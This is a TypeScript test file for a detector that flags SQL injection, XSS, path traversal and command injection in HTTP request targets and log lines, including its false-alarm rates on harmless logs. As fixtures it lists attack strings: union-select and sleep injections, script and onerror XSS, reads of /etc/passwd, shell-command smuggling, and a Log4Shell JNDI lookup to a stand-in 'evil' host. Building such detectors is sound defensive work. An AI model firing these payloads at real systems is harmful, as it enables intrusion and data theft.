import { parse } from 'csv-parse/sync';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { NO_REFERENCE_DATA, referenceData } from '../../../../otel-processor/test/needs.ts';
import { findRequest, request } from '../../templates/parameter-request.ts';
import { decodedText, isSuspectLine, isSuspectTarget, MOST_BYTES } from './decoded-text.ts';
import { FALSE_ALARMS_PER_LINE, FALSE_ALARMS_PER_REQUEST } from './false-alarm-rates.ts';
import { injectionIn } from './injection-patterns.ts';

function inTarget(text: string): string | undefined {
  const bytes = Buffer.from(text, 'latin1');
  return isSuspectTarget(bytes, 0, bytes.length) ? injectionIn(decodedText(bytes, 0, bytes.length), true) : undefined;
}

function inLine(text: string): string | undefined {
  const bytes = Buffer.from(text, 'latin1');
  return isSuspectLine(bytes, 0, bytes.length) ? injectionIn(decodedText(bytes, 0, bytes.length), false) : undefined;
}

function decoded(text: string): string {
  return decodedText(Buffer.from(text, 'latin1'), 0, text.length);
}

function linesOf(file: string): string[] {
  const bytes = readFileSync(join(referenceData ?? '', file));
  const text = (file.endsWith('.gz') ? gunzipSync(bytes) : bytes).toString('latin1');
  return text.split(/\r?\n/).filter((line) => line !== '');
}

interface Parameter {
  readonly payload: string;
  readonly attack_type: string;
}

function parameters(): Parameter[] {
  const file = gunzipSync(readFileSync(join(referenceData ?? '', 'security/http-params-train.csv.gz')));
  return parse(file, { columns: true, relax_column_count: true, relax_quotes: true }) as Parameter[];
}

/** Logs in which nobody attacks by text: web/, openstack/, sshd, HDFS and loghub's sixteen. */
function harmlessLogs(): string[] {
  const loghub = readdirSync(join(referenceData ?? '', 'loghub-2k')).flatMap((system) =>
    readdirSync(join(referenceData ?? '', 'loghub-2k', system))
      .filter((file) => file.endsWith('_2k.log'))
      .map((file) => join('loghub-2k', system, file)),
  );
  const others = ['web/apache-access.log.gz', 'web/nginx-json.log.gz', 'openstack/nova-sample.log.gz'];
  return [...loghub, ...others, 'security/sshd-auth.log.gz'];
}

describe('decodedText', () => {
  it('decodes percent signs twice, blanks, comments and capitals', () => {
    expect(decoded('%2527%20UNION/**/SELECT+%3Cb%3e%u0027')).toBe("' union select <b>'");
    expect(decoded('a%zz%4')).toBe('a%zz%4');
    expect(decoded('a%00b')).toBe('a\u0000b');
  });

  it('reads a bounded part of a text', () => {
    expect(decoded('x'.repeat(10 * MOST_BYTES))).toHaveLength(MOST_BYTES);
  });
});

describe('injectionIn', () => {
  it.each([
    ['/item?id=1%27%20OR%20%271%27=%271', 'sql_injection'],
    ['/item?id=1+union+all+select+null,password+from+users--', 'sql_injection'],
    ['/item?id=1;select+pg_sleep(5)--', 'sql_injection'],
    ['/q?s=%253Cscript%253Ealert(1)%253C/script%253E', 'xss'],
    ['/q?s="><img src=x onerror=alert(1)>', 'xss'],
    ['/get?file=../../../../etc/passwd', 'path_traversal'],
    ['/get?file=%2e%2e%2f%2e%2e%2fwin.ini', 'path_traversal'],
    ['/ping?host=127.0.0.1;cat%20/etc/hosts', 'command_injection'],
    ['/ping?host=`id`', 'command_injection'],
    ['/x?h=${jndi:ldap://evil/a}', 'command_injection'],
  ])('names what %j is', (target, kind) => {
    expect(inTarget(target)).toBe(kind);
  });

  it.each([
    '/search?q=select+a+seat+for+two',
    "/search?q=o'brien+and+sons",
    '/page;jsessionid=1A2B?id=7&user=anna',
    '/a/../b.css',
    '/docs?order=1&group=by&from=2024-01-01',
    '/q?s=1+%2B+1+=+2',
  ])('leaves %j alone', (target) => {
    expect(inTarget(target)).toBeUndefined();
  });

  it('asks less of lines than of targets, but finds the plain attacks in them', () => {
    expect(inLine("search for '1' OR '1'='1' by anna")).toBe('sql_injection');
    expect(inLine('user agent ${jndi:ldap://evil/a}')).toBe('command_injection');
    expect(inLine('SELECT name FROM users WHERE id = 7')).toBeUndefined();
    expect(inLine("can't open '/etc/passwd': <no such file>")).toBeUndefined();
  });

  it('takes time in proportion to the length of what it reads', () => {
    const evil = ['(', "'", '../', '<a ', 'or ', '1 or ', '/*', '%25', '${', ' '].map((part) =>
      part.repeat(MOST_BYTES),
    );
    // A pattern that goes back and forth would not come to an end here.
    for (let i = 0; i < 20; i++) for (const text of evil) inTarget(text);
    expect(evil.map((text) => decoded(text).length <= MOST_BYTES)).not.toContain(false);
  });

  it('finds most of the attacks in the HTTP parameters', (context) => {
    context.skip(referenceData === undefined, NO_REFERENCE_DATA);
    const share = (type: string): number => {
      const attacks = parameters().filter((row) => row.attack_type === type);
      return attacks.filter((row) => inTarget(row.payload) !== undefined).length / attacks.length;
    };
    expect(share('sqli')).toBeGreaterThan(0.95);
    expect(share('xss')).toBeGreaterThan(0.95);
    expect(share('cmdi')).toBeGreaterThan(0.7);
    expect(share('path-traversal')).toBeGreaterThan(0.6);
  });
});

describe('the rates of false alarms', () => {
  it('of requests is what harmless ones show', (context) => {
    context.skip(referenceData === undefined, NO_REFERENCE_DATA);
    const targets = parameters().flatMap((row) => (row.attack_type === 'norm' ? [row.payload] : []));
    for (const line of harmlessLogs().flatMap(linesOf)) {
      const bytes = Buffer.from(line, 'latin1');
      if (findRequest(bytes, 0, bytes.length)) targets.push(line.slice(request.start, request.end));
    }
    const alarms = targets.filter((target) => inTarget(target) !== undefined);
    expect(targets.length).toBeGreaterThan(23_000);
    expect((alarms.length + 0.5) / (targets.length + 1)).toBeCloseTo(FALSE_ALARMS_PER_REQUEST, 6);
  });

  it('of lines is what harmless ones show', (context) => {
    context.skip(referenceData === undefined, NO_REFERENCE_DATA);
    const lines = [...harmlessLogs().flatMap(linesOf), ...linesOf('hdfs-raw/hdfs.log.gz').slice(0, 30_000)];
    const alarms = lines.filter((line) => inLine(line) !== undefined);
    expect(lines.length).toBeGreaterThan(90_000);
    expect((alarms.length + 0.5) / (lines.length + 1)).toBeCloseTo(FALSE_ALARMS_PER_LINE, 6);
  });
});
